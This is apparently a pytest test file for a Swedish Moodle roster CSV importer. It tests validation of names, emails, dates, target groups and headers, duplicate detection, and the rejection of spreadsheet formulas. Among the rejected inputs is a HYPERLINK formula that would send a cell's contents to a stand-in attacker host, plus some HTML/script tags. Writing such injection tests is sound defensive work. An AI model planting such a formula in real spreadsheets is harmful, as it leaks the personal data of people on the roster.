"""Row validation, duplicate detection, header aliases and the errors that stop a whole file."""

from __future__ import annotations

import datetime
import string
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from roster_files import HEADER, TARGET_GROUPS, WriteCsv, person, write_csv_in

from moodle_sync.errors import RosterError
from moodle_sync.rosters.columns import ALIASES, FIELDS, REQUIRED, field_for_header
from moodle_sync.rosters.parse import read_roster
from moodle_sync.rosters.roster import RowProblem

TODAY = datetime.date(2025, 1, 15)


def problems_of(path: Path, **kwargs: object) -> list[tuple[int, str, str]]:
    roster = read_roster(path, target_groups=TARGET_GROUPS, today=TODAY)
    return [(p.row, p.column, p.message) for p in roster.problems]


# --- each kind of row problem names its row and column --------------------------------------------------------

BAD_CELLS = [
    ("E-post", "", "is empty"),
    ("E-post", "anna.exempel@", "is not a valid email address"),
    ("E-post", "anna exempel@falun.se", "it contains a space"),
    ("E-post", "anna@@falun.se", "exactly one @"),
    ("E-post", "anna@falun", "needs a dot"),
    ("E-post", "@falun.se", "nothing before the @"),
    ("E-post", "anna..b@falun.se", "is not a valid email address"),
    ("E-post", "åsa.öberg@falun.se", "only a-z"),
    ("E-post", "a" * 96 + "@x.se", "at most 100"),
    ("Förnamn", "", "is empty; every person needs a first name"),
    ("Förnamn", "<b>Anna</b>", "HTML tag"),
    ("Förnamn", "Anna\x07", "control character"),
    ("Förnamn", "A" * 101, "at most 100"),
    ("Efternamn", "   ", "is empty; every person needs a last name"),
    ("Efternamn", "Exempel<script>", "HTML tag"),
    ("E-post", "a" * 65 + "@falun.se", "at most 64 characters before the @"),
    ("E-post", "anna@" + "f" * 64 + ".se", "at most 63 characters between the dots"),
    ("Kommun", "", "is empty"),
    # organisation and unit are Moodle's institution/department (PARAM_TEXT): update_users refuses its whole
    # call over one value that strip_tags would change
    ("Kommun", "<b>Falu</b> kommun", "HTML tag"),
    ("Enhet", "Individ<br>omsorg", "HTML tag"),
    ("Enhet", "x" * 256, "at most 255"),
    ("Målgrupp", "", "at least one target group"),
    ("Målgrupp", "socialsekreterar", "is not a known target group"),
    ("Målgrupp", "utbildare; kurator", "is not a known target group"),
    ("Anställningsdatum", "2024-02-30", "is not a real date (2024-02 has no day 30)"),
    ("Anställningsdatum", "2023-13-01", "is not a real date (there is no month 13)"),
    ("Anställningsdatum", "2024-01-01 25:00:00", "is not a real date (no such time of day)"),
    ("Anställningsdatum", "3/4/2024", "is not a date in the form YYYY-MM-DD"),
    ("Anställningsdatum", "2026-01-16", "more than a year in the future"),
    ("Anställningsdatum", "1899-12-30", "before 1900"),
    ("HSA-id", "121212-1212", "personnummer"),
    ("HSA-id", "191212121212", "personnummer"),
    ("Län", "", "every row needs a county"),
    ("Län", "Dalarn", "is not a Swedish county"),
]


@pytest.mark.parametrize(("column", "value", "message"), BAD_CELLS)
def test_each_row_problem_names_row_and_column(write_csv: WriteCsv, column: str, value: str, message: str) -> None:
    path = write_csv([HEADER, person(1), person(2), person(3, **{column: value}), person(4)])
    roster = read_roster(path, target_groups=TARGET_GROUPS, today=TODAY)
    assert [(p.row, p.column) for p in roster.problems] == [(4, column)], [str(p) for p in roster.problems]
    assert message in roster.problems[0].message
    assert [r.row for r in roster.rows] == [2, 3, 5]


@pytest.mark.parametrize(("column", "value"), [
    ("Anställningsdatum", "2026-01-15"),        # exactly a year ahead: allowed
    ("Anställningsdatum", "2024-02-29 13:45:00"),
    ("Anställningsdatum", "2024-02-29T13:45"),
    ("HSA-id", "121212-1213"),                   # wrong check digit: an ordinary id
    ("HSA-id", "SE2321000016-1234"),
    ("Förnamn", "Anna < Bo"),                    # a lone "<" before a space is no tag to PHP's strip_tags
    ("Enhet", "Barn < 18 år"),
    ("E-post", "a" * 64 + "@falun.se"),
    ("E-post", "o'brien+kurs@region.example.se"),
    ("Målgrupp", "bvc|UTBILDARE,socialsekreterare"),
    ("Län", "20"),
])
def test_what_looks_odd_but_is_fine(write_csv: WriteCsv, column: str, value: str) -> None:
    assert problems_of(write_csv([HEADER, person(1, **{column: value})])) == []


def test_all_problems_of_all_rows_are_reported_at_once(write_csv: WriteCsv) -> None:
    rows = [HEADER,
            person(1),
            person(2, **{"E-post": "bad@", "Efternamn": "", "Målgrupp": "okänd", "Län": "Narnia"}),
            person(3),
            person(4, **{"Anställningsdatum": "igår", "Förnamn": "<i>x"})]
    roster = read_roster(write_csv(rows), target_groups=TARGET_GROUPS, today=TODAY)
    assert [(p.row, p.column) for p in roster.problems] == [
        (3, "E-post"), (3, "Efternamn"), (3, "Målgrupp"), (3, "Län"), (5, "Förnamn"), (5, "Anställningsdatum")]
    assert roster.invalid_rows == [3, 5]
    assert [r.row for r in roster.rows] == [2, 4]
    with pytest.raises(RosterError) as caught:
        roster.raise_for_problems()
    text = str(caught.value)
    assert "6 problems in 2 rows" in text and "--skip-invalid" in text
    assert 'row 3, column "E-post": \'bad@\' is not a valid email address' in text
    assert 'row 5, column "Anställningsdatum": \'igår\'' in text


def test_a_clean_roster_raises_nothing(write_csv: WriteCsv) -> None:
    read_roster(write_csv([HEADER, person(1)]), target_groups=TARGET_GROUPS, today=TODAY).raise_for_problems()


def test_problem_text_shows_row_column_value_and_hint() -> None:
    problem = RowProblem(7, "E-post", "anna.exempel@", "is not a valid email address", "check the address")
    assert str(problem) == ('row 7, column "E-post": \'anna.exempel@\' is not a valid email address'
                            " (hint: check the address)")
    assert str(RowProblem(3, "Förnamn", "", "is empty")) == 'row 3, column "Förnamn": is empty'
    assert str(RowProblem(3, "Enhet", "x" * 80, "is long")).count("x") == 57


def test_an_unknown_target_group_suggests_the_closest(write_csv: WriteCsv) -> None:
    path = write_csv([HEADER, person(1, **{"Målgrupp": "socialsekreterar"}), person(2, **{"Målgrupp": "HVB"}),
                      person(3, **{"Målgrupp": "kurator"})])
    roster = read_roster(path, target_groups=TARGET_GROUPS, today=TODAY)
    hints = [p.hint for p in roster.problems]
    assert hints[0] == 'did you mean "socialsekreterare" (Socialsekreterare och biståndsbedömare)?'
    assert hints[1].startswith('did you mean "skyddat-boende"')  # an abbreviation inside one name
    assert hints[2].startswith("known target groups: bvc, ")


@pytest.mark.parametrize(("cell", "keys"), [
    ("socialsekreterare", ("socialsekreterare",)),
    ("Socialsekreterare och biståndsbedömare", ("socialsekreterare",)),
    ("Öppenvård, skyddat boende och HVB-hem", ("skyddat-boende",)),
    ("öppenvård,skyddat boende och hvb-hem, BVC-mottagning", None),
    ("Öppenvård, skyddat boende och HVB-hem, Mödrahälsovård, barnavårdscentral (BVC) och gynekologer",
     ("bvc", "skyddat-boende")),
    ("utbildare;utbildare\nUtbildare", ("utbildare",)),
    ("vardcentral | utbildare |", ("utbildare", "vardcentral")),
])
def test_target_group_cells(write_csv: WriteCsv, cell: str, keys: tuple[str, ...] | None) -> None:
    roster = read_roster(write_csv([HEADER, person(1, **{"Målgrupp": cell})]), target_groups=TARGET_GROUPS,
                         today=TODAY)
    if keys is None:
        assert [p.value for p in roster.problems] == ["BVC-mottagning"]
    else:
        assert roster.problems == [] and roster.rows[0].target_groups == keys


# --- duplicates ------------------------------------------------------------------------------------------------

def test_the_same_email_on_two_rows_is_a_problem_on_both(write_csv: WriteCsv) -> None:
    rows = [HEADER, person(1), person(2, **{"E-post": "Dubbel@Example.se"}), person(3),
            person(4, **{"E-post": "dubbel@example.se "})]
    roster = read_roster(write_csv(rows), target_groups=TARGET_GROUPS, today=TODAY)
    assert [(p.row, p.column, p.message) for p in roster.problems] == [
        (3, "E-post", "also appears on row 5"), (5, "E-post", "also appears on row 3")]
    assert [r.row for r in roster.rows] == [2, 4]


def test_three_rows_with_one_email_each_name_the_other_two(write_csv: WriteCsv) -> None:
    same = {"E-post": "same@example.se"}
    rows = [HEADER, person(1, **same), person(2, **same), person(3, **same, Efternamn="")]
    assert problems_of(write_csv(rows)) == [
        (2, "E-post", "also appears on rows 3, 4"), (3, "E-post", "also appears on rows 2, 4"),
        (4, "E-post", "also appears on rows 2, 3"), (4, "Efternamn", "is empty; every person needs a last name")]


def test_the_same_employee_id_on_two_rows_is_a_problem_on_both(write_csv: WriteCsv) -> None:
    rows = [HEADER, person(1, **{"HSA-id": "SE1-1"}), person(2), person(3, **{"HSA-id": " SE1-1"})]
    assert problems_of(write_csv(rows)) == [
        (2, "HSA-id", "is also the employee id on row 4"), (4, "HSA-id", "is also the employee id on row 2")]


def test_empty_employee_ids_are_no_duplicates(write_csv: WriteCsv) -> None:
    rows = [HEADER, person(1, **{"HSA-id": ""}), person(2, **{"HSA-id": ""})]
    roster = read_roster(write_csv(rows), target_groups=TARGET_GROUPS, today=TODAY)
    assert roster.problems == [] and [r.employee_id for r in roster.rows] == [None, None]


# --- headers ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "alias"), [(n, a) for n, aliases in ALIASES.items() for a in aliases])
def test_every_header_alias_is_recognised(name: str, alias: str) -> None:
    assert field_for_header(alias) == name
    assert field_for_header(f"  {alias.upper()} ") == name


@pytest.mark.parametrize(("header", "name"), [
    ("E-post *", "email"), ("Anställningsdatum (ÅÅÅÅ-MM-DD)", "employment_start"), ("first_name", "firstname"),
    ("E_Mail", "email"), ("Target Groups", "target_groups"), ("Kommun:", "organisation"), ("HSA id", "employee_id"),
    ("Namn", None), ("Personnummer", None), ("", None),
])
def test_header_spelling_variants(header: str, name: str | None) -> None:
    assert field_for_header(header) == name


def test_aliases_do_not_collide_across_fields() -> None:
    owners: dict[str | None, set[str]] = {}
    for name, aliases in ALIASES.items():
        for alias in aliases:
            owners.setdefault(field_for_header(alias), set()).add(name)
    assert all(len(names) == 1 for names in owners.values())
    assert set(ALIASES) == set(FIELDS)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_english_headers_in_any_order_and_case(tmp_path_factory: pytest.TempPathFactory, data: st.DataObject) -> None:
    headers = {name: data.draw(st.sampled_from(ALIASES[name])) for name in FIELDS}
    headers = {n: "".join(data.draw(st.sampled_from([c.lower(), c.upper()])) for c in h) for n, h in headers.items()}
    order = data.draw(st.permutations(FIELDS))
    values = {"email": "a@example.se", "firstname": "Anna", "lastname": "Berg", "organisation": "Mora kommun",
              "unit": "IFO", "target_groups": "utbildare", "employment_start": "2024-01-02",
              "employee_id": "77", "county": "W"}
    path = write_csv_in(tmp_path_factory.mktemp("h"), [[headers[n] for n in order], [values[n] for n in order]],
                        delimiter=data.draw(st.sampled_from([";", ",", "\t"])))
    roster = read_roster(path, target_groups=TARGET_GROUPS, today=TODAY)
    assert roster.problems == [] and roster.columns == {n: headers[n] for n in FIELDS}
    row = roster.rows[0]
    assert (row.email, row.unit, row.employee_id, row.county) == ("a@example.se", "IFO", "77", "W")


def test_unknown_columns_are_ignored_and_listed(write_csv: WriteCsv) -> None:
    rows = [["Personnummer", *HEADER, "Kommentar"], ["", *person(1), "ny"]]
    roster = read_roster(write_csv(rows), target_groups=TARGET_GROUPS, today=TODAY)
    assert roster.ignored_columns == ["Personnummer", "Kommentar"]
    assert roster.problems == [] and roster.rows[0].email == "person1@falun.example.se"


def test_optional_columns_may_be_absent(write_csv: WriteCsv) -> None:
    header = ["Email", "First name", "Last name", "Employer", "Target groups"]
    roster = read_roster(write_csv([header, ["a@example.se", "Anna", "Berg", "Region Dalarna", "bvc"]]),
                         target_groups=TARGET_GROUPS)
    (row,) = roster.rows
    assert (row.unit, row.employment_start, row.employee_id, row.county) == ("", None, None, None)
    assert set(roster.columns) == set(REQUIRED)


def test_counties_false_ignores_the_county_column(write_csv: WriteCsv) -> None:
    roster = read_roster(write_csv([HEADER, person(1, **{"Län": "Narnia"})]), target_groups=TARGET_GROUPS,
                         counties=False, today=TODAY)
    assert roster.problems == [] and roster.rows[0].county is None and roster.ignored_columns == ["Län"]


def test_missing_required_columns_are_named_with_what_was_found(write_csv: WriteCsv) -> None:
    path = write_csv([["Mail", "Namn", "Efternamn", "Arbetsgivare", "Målgrup"], ["a@example.se", "A", "B", "C", "bvc"]])
    with pytest.raises(RosterError) as caught:
        read_roster(path, target_groups=TARGET_GROUPS)
    text = str(caught.value)
    assert "required columns missing: firstname, target_groups" in text
    assert 'headers found: "Mail", "Namn", "Efternamn", "Arbetsgivare", "Målgrup"' in text
    assert 'firstname: no column; accepted headers: "Förnamn", "first name", "firstname", "given name"' in text
    assert 'is "Målgrup" meant to be this column?' in text
    assert path.name in text and "row 1" in text


def test_two_columns_for_one_field_are_refused(write_csv: WriteCsv) -> None:
    with pytest.raises(RosterError, match='"Kommun" and "Arbetsgivare" both look like the organisation column'):
        read_roster(write_csv([[*HEADER, "Arbetsgivare"], [*person(1), "x"]]), target_groups=TARGET_GROUPS)


# --- whole-file errors -----------------------------------------------------------------------------------------

@pytest.mark.parametrize(("content", "match"), [
    (b"", "the file is empty"),
    (b"\r\n\r\n  \r\n", "the file is empty"),
    (b"\xef\xbb\xbf;;;\r\n;;\r\n", "no rows with content"),
    ("E-post;Förnamn;Efternamn;Kommun;Målgrupp\r\n\r\n".encode(), "no rows of people under it"),
    (b"bara en rad text\r\nanna@example.se\r\n", "required columns missing"),
])
def test_unusable_files_raise(tmp_path: Path, content: bytes, match: str) -> None:
    path = tmp_path / "x.csv"
    path.write_bytes(content)
    with pytest.raises(RosterError, match=match):
        read_roster(path, target_groups=TARGET_GROUPS)


def test_missing_file_directory_and_unknown_suffix_raise(tmp_path: Path) -> None:
    with pytest.raises(RosterError, match="no such file"):
        read_roster(tmp_path / "nope.csv", target_groups=TARGET_GROUPS)
    with pytest.raises(RosterError, match="is a directory"):
        read_roster(tmp_path, target_groups=TARGET_GROUPS)
    pdf = tmp_path / "lista.pdf"
    pdf.write_bytes(b"%PDF-1.7")
    with pytest.raises(RosterError, match="cannot read a .pdf file") as caught:
        read_roster(pdf, target_groups=TARGET_GROUPS)
    assert ".csv" in caught.value.hint and ".xlsx" in caught.value.hint


def test_the_roster_remembers_the_files_digest(write_csv: WriteCsv) -> None:
    import hashlib

    path = write_csv([HEADER, person(1)])
    roster = read_roster(path, target_groups=TARGET_GROUPS, today=TODAY)
    assert roster.sha256 == hashlib.sha256(path.read_bytes()).hexdigest() and roster.path == str(path)


# --- whatever the cells hold: never an exception, and every row is either valid or has a problem -------------

cell_text = st.text(alphabet=string.printable + "åäöÅÄÖ<>@;,|\u00a0\u200b", max_size=25)
EMAILS = ["a@example.se", "A@Example.se", "b@example.se", "bad@", ""]
GROUPS = ["utbildare", "bvc, utbildare", "nope", "", "Öppenvård, skyddat boende och HVB-hem"]


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.sampled_from(EMAILS) | cell_text, cell_text, cell_text, cell_text, cell_text,
                          st.sampled_from(GROUPS) | cell_text, cell_text, cell_text, cell_text), min_size=1,
                max_size=8))
def test_any_cells_give_rows_or_problems_never_both_never_an_exception(
        tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, ...]]) -> None:
    path = write_csv_in(tmp_path_factory.mktemp("fuzz"), [HEADER, *rows])
    roster = read_roster(path, target_groups=TARGET_GROUPS, today=TODAY)
    valid = {r.row for r in roster.rows}
    assert valid.isdisjoint(roster.invalid_rows)
    for problem in roster.problems:
        assert problem.column in HEADER and str(problem).startswith(f"row {problem.row}, column ")
    for row in roster.rows:
        assert row.email and row.firstname and row.lastname and row.organisation and row.target_groups
        assert row.email == row.email.lower() and set(row.target_groups) <= set(TARGET_GROUPS)
    emails = [r.email for r in roster.rows]
    assert len(emails) == len(set(emails))


# --- formulas and spreadsheet errors are no values --------------------------------------------------------------

@pytest.mark.parametrize(("column", "value", "message"), [
    ("Kommun", '=HYPERLINK("http://evil.example/?d="&A2,"Falu kommun")', "formula"),
    ("Förnamn", "=1+1", "formula"),
    ("Efternamn", "+SUM(1,2)", "formula"),
    ("Enhet", "-2+3", "formula"),
    ("Enhet", "@SUM(A1)", "formula"),
    ("E-post", "=anna@falun.se", "formula"),
    ("HSA-id", "=A1", "formula"),
    # LibreOffice runs a sign followed by a space too; a reader trims every kind of space before it looks
    ("Förnamn", "= 1+1", "formula"),
    ("Kommun", "+ 1", "formula"),
    ("Enhet", "- 2", "formula"),
    ("Efternamn", "@ SUM(1)", "formula"),
    ("Enhet", "- avdelning 2", "formula"),
    ("Förnamn", "\u00a0= 1+1", "formula"),     # a no-break space before it
    ("Kommun", "\u00a0=1+1", "formula"),
    ("Efternamn", "\u202f+ 1", "formula"),     # a narrow no-break space
    ("Enhet", "\u2007- 2", "formula"),         # a figure space
    ("Förnamn", "\uff1d1+1", "formula"),       # a full-width equals sign
    ("HSA-id", "-123", "formula"),             # Excel computes it: a negative number, not the id
    ("HSA-id", "- 123", "formula"),
    ("Kommun", "#REF!", "spreadsheet error"),
    ("Enhet", "#N/A", "spreadsheet error"),
    ("Efternamn", "#DIV/0!", "spreadsheet error"),
    ("Målgrupp", "#SAKNAS!", "spreadsheet error"),
    ("Län", "#VÄRDEFEL!", "spreadsheet error"),
])
def test_formulas_and_spreadsheet_errors_are_refused_with_their_row(
        write_csv: WriteCsv, column: str, value: str, message: str) -> None:
    roster = read_roster(write_csv([HEADER, person(1), person(2, **{column: value}), person(3)]),
                         target_groups=TARGET_GROUPS, today=TODAY)
    assert [(p.row, p.column, p.value) for p in roster.problems] == [(3, column, value.strip())], \
        [str(p) for p in roster.problems]
    assert message in roster.problems[0].message
    assert [r.row for r in roster.rows] == [2, 4]


@pytest.mark.parametrize(("column", "value"), [
    ("Enhet", "-"),                      # a dash for "no unit" is text, not a formula
    ("Enhet", "\u00a0- "),
    ("Efternamn", "Berg-Lind"),          # only a sign in front is a formula
    ("Förnamn", "Anna-Lena"),
    ("Kommun", "Region Dalarna #2"),
    ("Enhet", "IFO + familjerätt"),
    ("HSA-id", "SE2321000016-1001"),
])
def test_dashes_and_hashes_that_are_plain_text_are_fine(write_csv: WriteCsv, column: str, value: str) -> None:
    assert problems_of(write_csv([HEADER, person(1, **{column: value})])) == []
